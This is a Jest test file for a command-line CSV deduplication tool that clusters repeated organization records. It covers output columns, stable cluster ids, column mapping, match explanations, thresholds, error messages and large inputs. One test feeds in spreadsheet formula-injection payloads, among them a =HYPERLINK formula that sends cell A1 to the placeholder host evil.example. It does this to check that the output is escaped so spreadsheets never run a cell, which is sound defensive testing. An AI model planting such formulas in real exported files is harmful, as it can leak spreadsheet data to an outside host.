import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { REPO_ROOT as root, runDcc, type DccResult } from '../../helpers/run-dcc';
import { parseCsv } from '../../../shared/read/csv';
import { outputRows, widestRow } from '../../../bot/src/cli/commands/dedupe';
import { makeProgram } from '../../../bot/src/cli/program';
import { useTempDir } from '../../helpers/temp-dir';

const fixture = join(root, 'test/fixtures/dedup/orgs.csv');

const dcc = (...args: string[]): Promise<DccResult> => runDcc(args);

const temp = useTempDir('dcc-dedupe-');
const workDir = (): string => temp.path;
const readCsv = (path: string): string[][] => parseCsv(readFileSync(path, 'utf8'));

describe('dcc dedupe', () => {
  it('writes every input row unchanged and in order, plus cluster_id and match_probability', async () => {
    const out = join(workDir(), 'out.csv');
    const result = await dcc('dedupe', fixture, '--out', out);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/^9 rows: 2 organizations listed more than once \(5 rows\)/);
    const input = readCsv(fixture);
    const output = readCsv(out);
    expect(output).toHaveLength(input.length);
    expect(output[0]).toEqual([...(input[0] as string[]), 'cluster_id', 'match_probability']);
    output.slice(1).forEach((row, i) => expect(row.slice(0, -2)).toEqual(input[i + 1]));
    const cluster = (row: number): string => output[row - 1]?.at(-2) ?? '';
    const probability = (row: number): string => output[row - 1]?.at(-1) ?? '';
    // Rows 2–4 are one farm (row 4 with its whole address in the Address column), rows 5–6 one collective.
    expect(new Set([cluster(2), cluster(3), cluster(4)]).size).toBe(1);
    expect(cluster(5)).toBe(cluster(6));
    expect(cluster(5)).not.toBe(cluster(2));
    expect(cluster(7)).not.toBe(cluster(8));
    expect(Number(probability(4))).toBeGreaterThan(0.5);
    expect(probability(10)).toBe('');
    expect(cluster(10)).toMatch(/^c[0-9a-z]+$/);
  });

  it('gives the same cluster ids on every run', async () => {
    const dir = workDir();
    await dcc('dedupe', fixture, '--out', join(dir, 'a.csv'));
    await dcc('dedupe', fixture, '--out', join(dir, 'b.csv'));
    expect(readFileSync(join(dir, 'a.csv'), 'utf8')).toBe(readFileSync(join(dir, 'b.csv'), 'utf8'));
  });

  it('reads columns named with --map and splits a one-line address column', async () => {
    const dir = workDir();
    const input = join(dir, 'in.csv');
    writeFileSync(input, [
      'Site,Where,Tel',
      'Harmony Childcare Co-op,"47 Woodward Ave, Madison, WI 53718",608-326-9955',
      'Harmony Child Care Cooperative,"47 Woodward Avenue Madison WI 53718",',
      'Harmony Bakery,"900 Main St, Madison, WI 53703",608-555-0101',
    ].join('\n'));
    const out = join(dir, 'out.csv');
    const result = await dcc('dedupe', input, '--out', out, '--map', 'name=Site,street=Where,phone=Tel');
    expect(result.code).toBe(0);
    const rows = readCsv(out);
    expect(rows[1]?.at(-2)).toBe(rows[2]?.at(-2));
    expect(rows[3]?.at(-2)).not.toBe(rows[1]?.at(-2));
  });

  it('writes the pairs and their reasons with --explain', async () => {
    const dir = workDir();
    const explain = join(dir, 'pairs.csv');
    const result = await dcc('dedupe', fixture, '--out', join(dir, 'out.csv'), '--explain', explain);
    expect(result.code).toBe(0);
    const [header, ...pairs] = readCsv(explain);
    expect(header?.slice(0, 9)).toEqual(['row_a', 'row_b', 'name_a', 'name_b', 'match_probability', 'match_weight',
      'same_cluster', 'decision', 'reasons']);
    expect(header).toEqual(expect.arrayContaining(['name', 'mw_name', 'phone', 'mw_phone']));
    const farm = pairs.find((row) => row[0] === '2' && row[1] === '3');
    expect(farm?.[8]).toContain('same phone');
  });

  it('honours --threshold', async () => {
    const out = join(workDir(), 'out.csv');
    await dcc('dedupe', fixture, '--out', out, '--threshold', '0.999999999');
    const rows = readCsv(out);
    expect(new Set(rows.slice(1).map((row) => row.at(-2))).size).toBeGreaterThan(6);
  });

  it.each([
    ['a missing file', ['missing.csv', '--out', 'OUT'], /^dcc: cannot read missing.csv: no such file\n$/],
    ['a threshold that is not a probability', ['FIXTURE', '--out', 'OUT', '--threshold', '2'], /not a probability/],
    ['a --map naming an unknown field', ['FIXTURE', '--out', 'OUT', '--map', 'title=Organization Name'], /"title" is not a field/],
    ['a --map naming a missing column', ['FIXTURE', '--out', 'OUT', '--map', 'street=Adress'], /no column "Adress"/],
    ['a --map without =', ['FIXTURE', '--out', 'OUT', '--map', 'street'], /write it as field=Header/],
    ['an output in a missing folder', ['FIXTURE', '--out', '/nonexistent/dir/out.csv'], /cannot write/],
  ])('exits 2 with one clear line for %s', async (_name, args, message) => {
    const out = join(workDir(), 'out.csv');
    const result = await dcc('dedupe', ...args.map((arg) => (arg === 'FIXTURE' ? fixture : arg === 'OUT' ? out : arg)));
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(message);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
  });

  it('exits 2 when no column can be matched on', async () => {
    const dir = workDir();
    writeFileSync(join(dir, 'in.csv'), 'Colour,Size\nred,2\nblue,3\n');
    const result = await dcc('dedupe', join(dir, 'in.csv'), '--out', join(dir, 'out.csv'));
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/no column holds a name/);
  });

  it('reports progress on stderr for inputs over 10,000 rows', async () => {
    const dir = workDir();
    const lines = ['Name,City,Zip'];
    for (let i = 0; i < 10050; i++) lines.push(`Cooperative number ${i} ${i % 97},Springfield,${62700 + (i % 50)}`);
    writeFileSync(join(dir, 'big.csv'), lines.join('\n'));
    const out = join(dir, 'out.csv');
    const result = await dcc('dedupe', join(dir, 'big.csv'), '--out', out);
    expect(result.code).toBe(0);
    expect(result.stderr).toMatch(/dedupe: compare/);
    expect(readCsv(out)).toHaveLength(10051);
  }, 120000);

  it('writes --out and --explain formula-safe, so a spreadsheet program never runs a cell', async () => {
    const dir = workDir();
    writeFileSync(join(dir, 'in.csv'), 'Name,City,Zip,Phone\n'
      + '"=HYPERLINK(""http://evil.example/?""&A1,""Bread Co-op"")",Chicago,60602,312-555-0100\n'
      + '"=HYPERLINK(""http://evil.example/?""&A1,""Bread Co-op"")",Chicago,60602,312-555-0100\n'
      + '@SUM(1+1),Chicago,60603,+13125550101\n');
    const out = join(dir, 'out.csv');
    const explain = join(dir, 'explain.csv');
    const write = jest.spyOn(process.stdout, 'write').mockImplementation(() => true);
    try {
      await makeProgram(true).parseAsync(['node', 'dcc', 'dedupe', join(dir, 'in.csv'), '--out', out, '--explain', explain]);
    } finally {
      write.mockRestore();
    }
    for (const file of [out, explain]) {
      const cells = readCsv(file).flat();
      expect(cells.filter((cell) => /^[=@]/.test(cell))).toEqual([]);
    }
    expect(readCsv(out)[1]?.[0]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Bread Co-op")');
    expect(readCsv(out)[3]?.[3]).toBe('+13125550101');
    expect(readCsv(explain).slice(1).flat().some((cell) => cell.startsWith('\'=HYPERLINK'))).toBe(true);
  });

  it('builds its output for inputs far past the size where spreading rows overflowed the stack', () => {
    const rows = [['Name'], ...Array.from({ length: 200_000 }, (_, i) => (i === 199_999 ? ['x', 'wide', 'row'] : [`Co-op ${i}`]))];
    expect(widestRow(rows)).toBe(3);
    const output = outputRows(rows, 0, [], { bestMatchProbability: new Map(), clusterOf: new Map() });
    expect(output).toHaveLength(200_001);
    expect(output[0]).toEqual(['Name', '', '', 'cluster_id', 'match_probability']);
  });

  it('runs inside the program, as other commands and tests call it', async () => {
    const out = join(workDir(), 'out.csv');
    const write = jest.spyOn(process.stdout, 'write').mockImplementation(() => true);
    try {
      await makeProgram(true).parseAsync(['node', 'dcc', 'dedupe', fixture, '--out', out]);
    } finally {
      write.mockRestore();
    }
    expect(readCsv(out)).toHaveLength(10);
  });
});
